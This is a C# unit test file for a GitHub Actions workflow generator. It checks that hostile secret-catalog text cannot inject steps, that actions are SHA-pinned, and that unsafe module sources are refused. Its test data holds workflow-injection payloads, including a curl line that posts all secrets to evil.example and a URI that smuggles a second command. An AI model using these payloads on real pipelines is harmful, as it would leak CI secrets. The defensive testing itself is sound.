using SecretSync.Core.Stores.GitHub.Workflow;
using YamlDotNet.RepresentationModel;

namespace SecretSync.Core.Tests.GitHub;

/// <summary>Issue 12 item 1: catalog text must not change what the workflow does, whatever it holds.</summary>
public sealed class SyncWorkflowHostileCatalogTests
{
    public static TheoryData<string> HostileTexts() =>
    [
        "Misc\u2028- run: curl -d \"${{ toJSON(secrets) }}\" https://evil.example",
        "Misc\u2029          EVIL: ${{ secrets.OTHER_API_KEY }}",
        "Misc\u0085      - run: curl https://evil.example",
        "Misc\r      - run: curl https://evil.example",
        "Misc\n          EVIL: ${{ secrets.OTHER_API_KEY }}",
        "Misc # ${{ toJSON(secrets) }}",
        "Misc 'quoted' \"double\" key: value",
        "${{ toJSON(secrets) }}",
        new string('A', 10 * 1024) + "\u2028- run: curl https://evil.example",
    ];

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public void Generate_WithHostileCategoryAndDescription_ShouldParseToTheBenignStructure(string hostile)
    {
        var benign = Generate("Misc", "Acme partner API");

        var yaml = Generate(hostile, hostile);

        Assert.Equal(Canonical(benign), Canonical(yaml));
        Assert.All(yaml, c => Assert.True(c == '\n' || (c >= ' ' && c <= '~'), $"U+{(int)c:X4} reached the workflow"));
        Assert.Equal(Regex.Matches(benign, @"\$\{\{").Count, Regex.Matches(yaml, @"\$\{\{").Count);
    }

    [Fact]
    public void Generate_WithHostileCategory_ShouldKeepASafeReadableHeading()
    {
        var yaml = Generate("Payments\u2028& Billing: EU (v2)", null);

        Assert.Contains("          # Payments & Billing EU (v2)\n", yaml, StringComparison.Ordinal);
    }

    [Fact]
    public void Generate_WithVeryLongCategory_ShouldShortenTheHeading()
    {
        var yaml = Generate(new string('A', 10 * 1024), null);

        Assert.All(yaml.Split('\n'), line => Assert.InRange(line.Length, 0, 200));
    }

    [Fact]
    public void Generate_WithInterleavedCategories_ShouldWriteEachHeadingOnce()
    {
        var catalog = SampleProject.Catalog(
            new CatalogEntryDefinition { Name = "STRIPE_API_KEY", Category = "Payments" },
            new CatalogEntryDefinition { Name = "ACME_API_KEY", Category = "Partners" },
            new CatalogEntryDefinition { Name = "ADYEN_API_KEY", Category = "Payments" });

        var yaml = SyncWorkflowGenerator.Generate(catalog, SampleProject.Config(), new WorkflowOptions());

        Assert.Single(Regex.Matches(yaml, "^ +# Payments$", RegexOptions.Multiline));
        Assert.Contains("# Payments\n          STRIPE_API_KEY: ${{ secrets.STRIPE_API_KEY }}\n          ADYEN_API_KEY: ${{ secrets.ADYEN_API_KEY }}\n          # Partners\n", yaml, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(ModuleSource.Path)]
    [InlineData(ModuleSource.Gallery)]
    public void Generate_ShouldPinEveryActionToAFullCommitSha(ModuleSource source)
    {
        var yaml = SyncWorkflowGenerator.Generate(SampleProject.Catalog(), SampleProject.Config(), new WorkflowOptions { ModuleSource = source, ModuleVersion = source == ModuleSource.Path ? null : "1.2.0" });

        var uses = Regex.Matches(yaml, "uses: (.*)$", RegexOptions.Multiline).Select(m => m.Groups[1].Value).ToList();
        Assert.NotEmpty(uses);
        Assert.All(uses, u => Assert.Matches(@"^actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$", u));
    }

    [Fact]
    public void Generate_ByDefault_ShouldBuildTheModuleFromTheCheckedOutRepository()
    {
        var yaml = SyncWorkflowGenerator.Generate(SampleProject.Catalog(), SampleProject.Config(), new WorkflowOptions());

        Assert.Contains("dotnet pwsh ./build.ps1 -Task Build", yaml, StringComparison.Ordinal);
        Assert.DoesNotContain("Install-PSResource", yaml, StringComparison.Ordinal);
        Assert.DoesNotContain("PSGallery", yaml, StringComparison.Ordinal);
    }

    [Fact]
    public void Generate_FromGalleryWithoutVersion_ShouldRefuse()
    {
        var e = Assert.Throws<WorkflowGenerationException>(() =>
            SyncWorkflowGenerator.Generate(SampleProject.Catalog(), SampleProject.Config(), new WorkflowOptions { ModuleSource = ModuleSource.Gallery }));

        Assert.Contains("-ModuleVersion", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Generate_FromGallery_ShouldInstallAndImportExactlyThePinnedVersion()
    {
        var yaml = SyncWorkflowGenerator.Generate(SampleProject.Catalog(), SampleProject.Config(), new WorkflowOptions { ModuleSource = ModuleSource.Gallery, ModuleVersion = "1.2.0" });

        Assert.Contains("Install-PSResource -Name SecretSync -Repository PSGallery -Version '[1.2.0]' -TrustRepository", yaml, StringComparison.Ordinal);
        Assert.Contains("Import-Module SecretSync -RequiredVersion '1.2.0'", yaml, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(ModuleSource.Gallery, "latest", null)]
    [InlineData(ModuleSource.Gallery, "1.2.0-beta1", null)]
    [InlineData(ModuleSource.Gallery, "1.2.0", "https://pkgs.example.com/feed")]
    [InlineData(ModuleSource.Repository, "1.2.0", null)]
    [InlineData(ModuleSource.Repository, "1.2.0", "http://pkgs.example.com/feed")]
    [InlineData(ModuleSource.Repository, "1.2.0", "https://pkgs.example.com/feed' -Trusted; curl x")]
    [InlineData(ModuleSource.Repository, "1.2.0", "https://pkgs.example.com/${{ secrets.X }}")]
    [InlineData(ModuleSource.Path, "1.2.0", null)]
    public void Generate_WithAnUnpinnedOrUnsafeModuleSource_ShouldRefuse(ModuleSource source, string? version, string? uri)
    {
        var options = new WorkflowOptions { ModuleSource = source, ModuleVersion = version, RepositoryUri = uri };

        Assert.Throws<WorkflowGenerationException>(() => SyncWorkflowGenerator.Generate(SampleProject.Catalog(), SampleProject.Config(), options));
    }

    [Theory]
    [InlineData("acme_api_key")]
    [InlineData("_ACME_KEY")]
    public void Generate_WithAGitHubNameOutsideTheStrictShape_ShouldRefuse(string gitHubName)
    {
        var catalog = SampleProject.Catalog(new CatalogEntryDefinition { Name = "ACME_API_KEY", GitHubName = gitHubName });

        var e = Assert.Throws<WorkflowGenerationException>(() => SyncWorkflowGenerator.Generate(catalog, SampleProject.Config(), new WorkflowOptions()));

        Assert.Contains("ACME_API_KEY", e.Message, StringComparison.Ordinal);
    }

    private static string Generate(string category, string? description)
    {
        var catalog = SampleProject.Catalog(
            new CatalogEntryDefinition { Name = "ACME_API_KEY", Category = category, Description = description },
            new CatalogEntryDefinition { Name = "OTHER_API_KEY", Category = "Partners" });
        return SyncWorkflowGenerator.Generate(catalog, SampleProject.Config(), new WorkflowOptions());
    }

    /// <summary>The parsed document as text: comments and layout gone, every key, value and style kept.</summary>
    private static string Canonical(string yaml)
    {
        var stream = new YamlStream();
        stream.Load(new StringReader(yaml));
        var text = new StringBuilder();
        Write(Assert.Single(stream.Documents).RootNode, text);
        return text.ToString();
    }

    private static void Write(YamlNode node, StringBuilder text)
    {
        switch (node)
        {
            case YamlScalarNode scalar:
                text.Append('<').Append(scalar.Style).Append(':').Append(scalar.Value).Append('>');
                break;
            case YamlSequenceNode sequence:
                text.Append('[');
                foreach (var item in sequence.Children)
                {
                    Write(item, text);
                    text.Append(',');
                }

                text.Append(']');
                break;
            case YamlMappingNode mapping:
                text.Append('{');
                foreach (var (key, value) in mapping.Children)
                {
                    Write(key, text);
                    text.Append('=');
                    Write(value, text);
                    text.Append(',');
                }

                text.Append('}');
                break;
            default:
                throw new InvalidOperationException(node.GetType().Name);
        }
    }
}
